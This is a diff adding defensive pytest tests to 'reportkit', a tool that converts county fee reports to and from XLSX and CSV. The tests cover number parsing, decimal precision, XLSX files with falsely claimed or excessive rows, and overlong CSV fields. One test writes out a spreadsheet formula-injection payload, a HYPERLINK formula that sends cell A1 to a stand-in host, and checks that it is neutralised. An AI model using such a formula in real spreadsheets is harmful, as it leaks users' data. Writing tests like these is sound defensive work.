@@ -2,9 +2,11 @@
 
 from __future__ import annotations
 
+import csv
 import difflib
 import re
 import shutil
+import zipfile
 from decimal import Decimal
 from pathlib import Path
 
@@ -12,7 +14,7 @@ import pytest
 from openpyxl import load_workbook
 
 import reportkit
-from reportkit import sheet
+from reportkit import batch, sheet
 from reportkit.errors import DataError
 from tests.helpers import FIXTURES
 from tests.helpers import run_cli as run
@@ -108,7 +110,7 @@ def test_bad_cells_are_refused_one_message_each(county: Path, tmp_path: Path) ->
         sheet.import_sheet(out, county)
     messages = [p.format() for p in caught.value.problems]
     assert messages == [
-        f"{out}: 第 2 行「{LICENSING}」：应为数字，实为「三十」",
+        f"{out}: 第 2 行「{LICENSING}」：应为数字（只写数字和一个小数点，不加逗号、空格或单位），实为「三十」",
         f"{out}: 第 3 行「{RECEIVED}」：单元格为空，应填数字（没有则填 0）",
         f"{out}: 第 4 行「{FEE}」：不能为负数，实为 -5",
         f"{out}: 第 6 行「{RECEIVED}」：件数应为整数，实为 2.5",
@@ -228,3 +230,132 @@ def test_a_figure_the_data_file_refuses_is_named_by_sheet_row_and_column(
     ]
     assert "tmp" not in caught.value.problems[0].file.replace(str(tmp_path), "")
     assert {p.name: p.read_bytes() for p in county.glob("*.toml")} == before
+
+
+# ---------------------------------------------------------------------------------------------
+# Spreadsheets and text are data, never code; numbers are read by one rule
+
+
+def test_a_name_that_looks_like_a_formula_stays_text(county: Path, tmp_path: Path) -> None:
+    anle = county / "anle.toml"
+    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
+    anle.write_text(
+        anle.read_text("utf-8").replace('name = "安乐乡人民政府"', f"name = '{evil}'"), "utf-8"
+    )
+    xlsx, csv_path = tmp_path / "f.xlsx", tmp_path / "f.csv"
+    sheet.export(county, xlsx)
+    sheet.export(county, csv_path)
+    book = load_workbook(xlsx)
+    cell = book.worksheets[0].cell(row=2, column=1)
+    assert (cell.value, cell.data_type) == (evil, "s")  # a string, not a formula
+    line = csv_path.read_text(encoding="utf-8-sig").splitlines()[1]
+    assert line.startswith("\"'=HYPERLINK(")  # Excel and WPS show it as text
+    # the round trip changes nothing: the ' is taken off again on import
+    assert sheet.import_sheet(xlsx, county) == {}
+    assert sheet.import_sheet(csv_path, county) == {}
+    out = tmp_path / "out"
+    batch.run(county, out)
+    summary = (out / "summary.csv").read_text(encoding="utf-8-sig")
+    assert "\"'=HYPERLINK(" in summary and "\n=HYPERLINK" not in summary
+
+
+@pytest.mark.parametrize(
+    ("typed", "message"),
+    [
+        ("1,5", "应为数字（只写数字和一个小数点"),
+        ("1_000", "应为数字（只写数字和一个小数点"),
+        ("１２", "应为数字（只写数字和一个小数点"),
+        ("3件", "应为数字（只写数字和一个小数点"),
+        ("9" * 5000, "应为数字（只写数字和一个小数点"),
+        ("5000000000000", "数值过大"),
+    ],
+    ids=["comma", "underscore", "fullwidth", "unit", "5000-digits", "too-large"],
+)
+def test_numbers_are_read_by_one_rule(
+    county: Path, tmp_path: Path, typed: str, message: str
+) -> None:
+    out = tmp_path / "f.csv"
+    sheet.export(county, out)
+    lines = out.read_text(encoding="utf-8-sig").splitlines()
+    cells = next(csv.reader([lines[1]]))
+    header = next(csv.reader([lines[0]]))
+    cells[header.index(LICENSING)] = typed
+    lines[1] = ",".join(f'"{c}"' for c in cells)
+    out.write_text("\n".join(lines) + "\n", encoding="utf-8-sig")
+    with pytest.raises(DataError) as caught:
+        sheet.import_sheet(out, county)
+    [problem] = caught.value.problems
+    assert message in problem.format() and f"第 2 行「{LICENSING}」" in problem.format()
+
+
+def test_amounts_keep_every_digit_through_xlsx(county: Path, tmp_path: Path) -> None:
+    anle = county / "anle.toml"
+    anle.write_text(
+        anle.read_text("utf-8").replace("fees      = 0", "fees      = 1234.567891"), "utf-8"
+    )
+    gonghe = county / "gonghe.toml"
+    gonghe.write_text(
+        gonghe.read_text("utf-8").replace("fees      = 0.8", "fees      = -0.0"), "utf-8"
+    )
+    out = tmp_path / "f.xlsx"
+    sheet.export(county, out)
+    assert sheet.import_sheet(out, county) == {}  # nothing lost, nothing changed
+    assert reportkit.load(anle).proactive.fees == Decimal("1234.567891")
+    book = load_workbook(out)
+    rows = book.worksheets[0]
+    header = [c.value for c in rows[1]]
+    fee_column = header.index("二·行政事业性收费·本年收费金额（万元）") + 1
+    values = {
+        rows.cell(row=r, column=2).value: rows.cell(row=r, column=fee_column).value
+        for r in range(2, rows.max_row + 1)
+    }
+    assert str(values["gonghe.toml"]) in ("0", "0.0")  # −0 is written as 0
+
+
+def test_an_xlsx_that_claims_a_million_rows_is_read_as_what_it_holds(
+    county: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "f.xlsx"
+    sheet.export(county, out)
+    bomb = tmp_path / "bomb.xlsx"
+    with zipfile.ZipFile(out) as source, zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(
+                    rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:XFD1048576"/>', data
+                )
+            target.writestr(item, data)
+    assert sheet.import_sheet(bomb, county) == {}  # its eight real rows, quickly
+    many = tmp_path / "many.xlsx"
+    rows = b"".join(
+        b'<row r="%d"><c r="A%d" t="inlineStr"><is><t>x</t></is></c></row>' % (i, i)
+        for i in range(1, 30_002)
+    )
+    with zipfile.ZipFile(out) as source, zipfile.ZipFile(many, "w", zipfile.ZIP_DEFLATED) as target:
+        for item in source.infolist():
+            data = source.read(item.filename)
+            if item.filename == "xl/worksheets/sheet1.xml":
+                data = re.sub(
+                    rb"<sheetData>.*</sheetData>",
+                    b"<sheetData>" + rows + b"</sheetData>",
+                    data,
+                    flags=re.S,
+                )
+            target.writestr(item, data)
+    with pytest.raises(DataError) as caught:
+        sheet.import_sheet(many, county)
+    assert caught.value.problems[0].code == "sheet_too_big"
+
+
+def test_a_csv_field_too_long_for_a_figure_is_a_located_problem(
+    county: Path, tmp_path: Path
+) -> None:
+    out = tmp_path / "f.csv"
+    sheet.export(county, out)
+    text = out.read_text(encoding="utf-8-sig")
+    out.write_text(text + '"' + "x" * 200_000 + '"\n', encoding="utf-8-sig")
+    with pytest.raises(DataError) as caught:
+        sheet.import_sheet(out, county)
+    [problem] = caught.value.problems
+    assert (problem.code, problem.line) == ("sheet_bad_line", 9)
